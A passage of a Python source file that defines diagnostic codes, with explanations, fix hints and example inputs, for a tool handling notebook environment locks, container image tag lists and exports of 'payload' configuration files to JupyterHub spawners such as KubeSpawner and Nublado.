        "requirements from the index or channels it was given; the notebook is not changed.",
        "Change the requirement that cannot be met, or give the index or channel that has it "
        "(`--index-url`, `--find-links`, `--channel`).",
        "analysis.ipynb",
        _nb(
            '  "environment": {"env_ver": "1.0", "files": {"requirements.txt": '
            '"envspec-no-such-package==1.0\\n"}}'
        ),
        ("lock", "no-index"),
    ),
    CodeInfo(
        "lock-outdated",
        "error",
        "The embedded lock no longer matches its inputs",
        "A requirement was added, removed or changed since the notebook was locked (or it was "
        "never locked), so the lock does not install what the inputs ask for.",
        "Run `envspec lock` on the notebook again.",
        "analysis.ipynb",
        _nb('  "environment": {"env_ver": "1.0", "files": {"requirements.txt": "numpy\\n"}}'),
        ("lock", "check"),
    ),
)

_ENTRIES += ()
_ENTRIES += PAYLOAD_ENTRIES
_ENTRIES += FORMAT_ENTRIES

# ------------------------------------------------------- payload tags, menus, compatibility
_TAGS_PAYLOAD = "lab.payload.yaml"
_RSP = (
    'payload_ver: "1.0"\nname: lab\n'
    "image: {type: docker, registry: docker.io, repository: example/lab}\n"
    "tags: {policy: rsp}\n"
)
_ENTRIES += (
    CodeInfo(
        "tag-list-invalid",
        "error",
        "A line of the tag list is not a tag (and an optional digest)",
        "A tag list has one image a line: its tag, then optionally its digest "
        "(`sha256:` and 64 hex digits). A line that is neither is skipped, so the image it "
        "meant is missing from the menu; only the first lines are shown one by one.",
        "Fix or remove the line: `TAG` or `TAG sha256:<64 hex>`, `#` starts a comment.",
        _TAGS_PAYLOAD,
        _RSP,
        ("payload-tags", "tags=not a tag!"),
    ),
    CodeInfo(
        "tag-cycle-as-extra",
        "warning",
        "A cycle suffix is not where the RSP grammar reads it",
        "The RSP grammar reads a cycle only as `_cNNNN.NNN` right after the version and before "
        "`_rspNN`; written after the RSP build (or without `.NNN`), it becomes extra text: the "
        "cycle restriction no longer sees it and the display name shows it in brackets.",
        "Rename the tag with the cycle first (`w_2024_10_c0020.001_rsp19`).",
        _TAGS_PAYLOAD,
        _RSP,
        ("payload-tags", "tags=w_2024_10_rsp19_c0020.001"),
    ),
    CodeInfo(
        "tag-arch-unknown",
        "warning",
        "A trailing `-word` is read as an architecture, and is not one",
        "The RSP grammar takes any `-[a-z0-9]+` at the end of a tag as its architecture: "
        "`exp_tickets_DM-12345` is the image `exp_tickets_DM` for the architecture `12345`, "
        "left out of the menu as an architecture variant.",
        "Use `_` inside tag names, and `-` only before an architecture (`-amd64`, `-arm64`).",
        _TAGS_PAYLOAD,
        _RSP,
        ("payload-tags", "tags=exp_tickets_DM-12345"),
    ),
    CodeInfo(
        "tag-alias-by-configuration",
        "warning",
        "A tag is an alias only because the configuration names it",
        "Whether a tag is an alias cannot be read from its text: `recommended` is an alias "
        "because the menu configuration says so. When no other tag of the list has its "
        "digest, the spawner cannot tell users which image the alias shows.",
        "Give the tag list digests (`TAG sha256:...`), or pin the tag the alias points at.",
        _TAGS_PAYLOAD,
        _RSP + "menu: {recommended: recommended}\n",
        ("payload-menu", "tags=recommended"),
    ),
    CodeInfo(
        "menu-tag-missing",
        "warning",
        "The recommended tag or a pinned tag is not in the tag list",
        "The menu configuration names a tag the registry does not have (or not of the cycle "
        "asked for): it is neither prepulled nor shown, and the default falls to another image.",
        "Correct the tag in the menu configuration, or push the image.",
        _TAGS_PAYLOAD,
        _RSP + "menu:\n  pins: [{tag: r27_0_0}]\n",
        ("payload-menu", "tags=w_2024_10"),
    ),
    CodeInfo(
        "lab-interface-too-new",
        "error",
        "The image implements a lab interface newer than the spawner supports",
        "The spawner would start the image with a start command, variables and mounts of an "
        "older interface: the lab fails to start, late and with no clear reason.",
        "Launch a rebuild of the image for a supported interface, or upgrade the spawner.",
        _TAGS_PAYLOAD,
        _RSP + 'compatibility: {interface: "2.1"}\n',
        ("payload-tags", "tags=r23_0_0", "interface=1.0..1.9"),
    ),
    CodeInfo(
        "lab-interface-too-old",
        "error",
        "The image implements a lab interface older than the spawner supports",
        "The image predates what the spawner still starts, and no rebuild of it implements a "
        "supported interface.",
        "Rebuild the image (a maintenance rebuild names the tag it rebuilds), or keep a "
        "spawner that supports its interface.",
        _TAGS_PAYLOAD,
        _RSP
        + 'compatibility:\n  interface: "2.1"\n  images:\n'
        + '    - {tag: r21_0_0, interface: "1.0"}\n',
        ("payload-tags", "tags=r21_0_0", "interface=2.0..3.0"),
    ),
)

# ------------------------------------------------------- payload exports (spawner configuration)
_EXPORT_PAYLOAD = "astro.payload.yaml"


def _payload(body: str) -> str:
    return (
        'payload_ver: "1.0"\nname: astro\n'
        "image: {type: docker, registry: ghcr.io, repository: example/astro}\n" + body
    )


_ENTRIES += (
    CodeInfo(
        "export-lossy",
        "warning",
        "A part of the payload the spawner cannot express is left out of its configuration",
        "Each spawner has its own vocabulary: KubeSpawner cannot require an environment "
        "variable, Nublado has no GPU sizes.  The configuration is still written, without that "
        "part: the message names it so that it can be added by hand.",
        "Add the part by hand to the spawner's configuration, or export to a spawner that "
        "expresses it.",
        _EXPORT_PAYLOAD,
        _payload("tags: {policy: rsp}\nlab:\n  env:\n    BUTLER_URL: {required: true}\n"),
        ("export", "to=kubespawner"),
    ),
    CodeInfo(
        "export-approximate",
        "warning",
        "A part of the payload is exported as the nearest thing the spawner has",
        "The configuration does what the payload asks only approximately (a GPU without a vendor "
        "becomes nvidia.com/gpu; a filtered dropdown becomes a free-text image field).",
        "Check the exported value, or say more in the payload (gpu.vendor, ...).",
        _EXPORT_PAYLOAD,
        _payload(
            "tags: {policy: rsp}\nlab:\n  sizes:\n"
            "    - {name: gpu, cpu: {limit: '4'}, memory: {limit: 16Gi}, gpu: {count: 1}}\n"
        ),
        ("export", "to=kubespawner"),
    ),
    CodeInfo(
        "export-unsupported",
        "error",
        "The payload cannot be exported to this spawner",
        "The spawner cannot offer what the payload is (Nublado reads only Rubin-style tags and "
        "one image repository); a configuration written anyway would mislead.  Nothing is "
        "written.",
        "Change the payload as the hint says, or export to another spawner (kubespawner).",
        _EXPORT_PAYLOAD,
        _payload("tags: {policy: semver}\n"),
        ("export", "to=nublado"),
    ),
    CodeInfo(
        "export-size-name",
        "error",
        "A size's name is not one Nublado knows",
        "Nublado's sizes are named fine, diminutive, tiny, small, medium, large, huge, "
        "gargantuan and colossal; it refuses any other name.  Nothing is written.",
        "Rename the size to one of Nublado's names (its title is not shown by Nublado).",
        _EXPORT_PAYLOAD,
        _payload(
            "tags: {policy: rsp}\nlab:\n  sizes:\n"
            "    - {name: xl, cpu: {request: '4', limit: '8'}, "
            "memory: {request: 16Gi, limit: 32Gi}}\n"
        ),
        ("export", "to=nublado"),
    ),
)

#: Every code, by name.
CODES: Final = MappingProxyType({info.code: info for info in _ENTRIES})

#: Codes about a tool's own input and output (a file it cannot read, a write that
#: fails), not about a document: the conformance suite has no case for them.
TOOL_CODES: Final = frozenset(
    {"file-unreadable", "write-failed", "lock-no-inputs", "lock-failed", "lock-outdated"}
    | {"payload-ref-missing"}  # about files beside the payload file, which cases do not have
    # Advice of `envspec payload tags` / `menu` about a tag list, not obligations of the spec.
    | {"tag-list-invalid", "tag-cycle-as-extra", "tag-arch-unknown"}
    | {"tag-alias-by-configuration", "menu-tag-missing"}
    # payload exports: what a spawner's configuration can say, not whether a document is valid
    | {"export-lossy", "export-approximate", "export-unsupported", "export-size-name"}
    # conversions to and from other formats: what another format can hold, not the standard
    | {info.code for info in FORMAT_ENTRIES}
)
